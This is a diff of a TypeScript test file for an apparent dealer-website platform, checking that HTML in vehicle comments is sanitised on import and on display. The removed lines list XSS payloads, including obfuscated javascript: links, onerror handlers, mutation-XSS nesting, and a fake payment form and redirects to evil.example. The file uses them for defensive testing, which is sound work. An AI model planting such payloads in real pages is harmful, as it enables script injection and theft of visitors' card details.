@@ -1,29 +1,17 @@
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openDatabase, type OpenDatabase } from '@forecourt/database';
+import { resolveConfig, siteSection, type SiteSection } from '@forecourt/site-config';
 import type { Vehicle } from '@forecourt/vehicle';
+import { parseMapping } from './feed/mapping.js';
+import { importFeed } from './importFeed.js';
 import { siteStock } from './stock.js';
+import { HOSTILE_COMMENTS, hostileComments } from './testing/hostile/index.js';
 
-const HOSTILE = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg onload=alert(1)>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVa\tScRiPt:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="//evil.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
-  '<style>*{display:none}</style>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '</div></section><object data="x"></object>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<p onmouseover=alert(1)>x',
-];
+const ALLOWED = ['p', 'br', 'b', 'strong', 'i', 'em', 'u', 'ul', 'ol', 'li', 'h3', 'h4', 'a'];
+const PROTOCOLS = ['https:', 'http:', 'mailto:', 'tel:'];
 
 const vehicle: Vehicle = {
   id: '1',
@@ -38,38 +26,98 @@ const vehicle: Vehicle = {
   created_at_timestamp: 0,
   updated_at_timestamp: 0,
 };
+const dealer = JSON.parse(
+  readFileSync(path.join(import.meta.dirname, '../../../../dealers/northline/site.json'), 'utf8'),
+) as { site: Record<string, unknown> };
+const site = resolveConfig([siteSection], [{ name: 'northline', values: { site: dealer.site } }]).values[
+  'site'
+] as unknown as SiteSection;
 
 let database: OpenDatabase;
+const folder = mkdtempSync(path.join(tmpdir(), 'forecourt-comments-'));
 beforeAll(async () => {
   database = await openDatabase({ memory: true });
 }, 60_000);
-afterAll(() => database.close());
+afterAll(async () => {
+  await database.close();
+  rmSync(folder, { recursive: true, force: true });
+});
 
 /** Written past the import, which cleans too: what matters here is the way out. */
 async function readBack(dealercomments: string): Promise<string> {
   const stock = siteStock(database.db, 'harbour');
-  await database.db.deleteFrom('vehicles').execute();
   await stock.seed([{ ...vehicle, dealercomments }], 'test');
   return (await stock.bySlug('kia-rio'))?.dealercomments ?? 'none';
 }
 
+/** Through a feed, as it is stored. */
+async function importAll(comments: readonly string[]): Promise<string[]> {
+  const file = path.join(folder, 'feed.json');
+  writeFileSync(
+    file,
+    JSON.stringify(comments.map((text, at) => ({ stock: String(at), make: 'Kia', model: 'Rio', text }))),
+  );
+  const fields = {
+    stocknum: { from: 'stock' },
+    make: { from: 'make' },
+    model: { from: 'model' },
+    dealercomments: { from: 'text', as: 'html' },
+  };
+  const mapping = parseMapping({ format: 'json', fields }, 'comments');
+  await importFeed({ db: database.db, slug: 'northline', site, file, mapping, maxRemoved: 1 });
+  const stored: string[] = [];
+  for await (const page of siteStock(database.db, 'northline').pages())
+    for (const { stocknum, dealercomments } of page) stored[Number(stocknum)] = dealercomments ?? '';
+  return stored;
+}
+
+function expectHarmless(html: string): void {
+  for (const [, name = '', attributes = ''] of html.matchAll(/<\/?([^\s>/]+)([^>]*)>/g)) {
+    expect(ALLOWED).toContain(name);
+    const href = /\shref="([^"]*)"/.exec(attributes)?.[1];
+    // read as browsers read it
+    if (href) expect(PROTOCOLS).toContain(new URL(href, 'https://site.example/cars/x').protocol);
+    expect(attributes.replace(/\s(href="[^"]*"|rel="nofollow noopener")/g, '').trim()).toBe('');
+  }
+}
+
 describe('comments on the way out', () => {
-  it.each(HOSTILE)('VDP-10 %s does nothing on a page', async (html) => {
-    const clean = await readBack(`<p>Before</p>${html}<p>After</p>`);
-    expect(clean).toContain('<p>Before</p>');
-    const tags = [...clean.matchAll(/<\/?([a-z0-9]+)([^>]*)>/gi)];
-    for (const [, name = '', attributes = ''] of tags) {
-      expect(['p', 'br', 'b', 'strong', 'i', 'em', 'u', 'ul', 'ol', 'li', 'h3', 'h4', 'a']).toContain(name);
-      expect(attributes.replace(/\s(href="(https?:|mailto:|tel:|\/)[^"]*"|rel="nofollow noopener")/g, '').trim()).toBe(
-        '',
-      );
+  it('VDP-10 has 200 and more hostile samples, each another one', () => {
+    expect(hostileComments.length).toBeGreaterThanOrEqual(200);
+    expect(new Set(hostileComments).size).toBe(hostileComments.length);
+  });
+
+  it.each(Object.entries(HOSTILE_COMMENTS))('VDP-10 %s do nothing on a page', async (_name, samples) => {
+    for (const html of samples) {
+      // what a row cannot hold does not come out of it
+      const clean = await readBack(`<p>Before</p>${html}`.replaceAll('\u0000', '').replace(/\p{Surrogate}/gu, ''));
+      expect(clean).toMatch(/^<p>Before<\/p>/);
+      expectHarmless(clean);
     }
   });
+
   it('VDP-10 what a dealer writes stays: paragraphs, lists, links that pass on no rank', async () => {
     const html = '<p>Tidy <strong>inside</strong>.</p><ul><li>Tow bar</li></ul>';
     expect(await readBack(html)).toBe(html);
     expect(await readBack('<a href="https://a.example/x">Report</a>')).toBe(
       '<a href="https://a.example/x" rel="nofollow noopener">Report</a>',
     );
+  });
+});
+
+it('VDP-10 thousands of open tags come out as few as a browser draws with ease, with every word', async () => {
+  expect(await readBack(`${'<b>'.repeat(5000)}Tidy`)).toBe(`${'<b>'.repeat(30)}Tidy${'</b>'.repeat(30)}`);
+});
+
+describe('comments on the way in', () => {
+  it('VDP-10 API-05 a feed of hostile comments is imported whole, and what it stores is clean for good', async () => {
+    const stored = await importAll(hostileComments.map((html) => `<p>Before</p>${html}`));
+    expect(stored).toHaveLength(hostileComments.length);
+    for (const html of stored) {
+      expect(html).toMatch(/^<p>Before<\/p>/);
+      expectHarmless(html);
+      // cleaned again on the way out it must not become something else
+      expect(await readBack(html)).toBe(html);
+    }
   });
 });
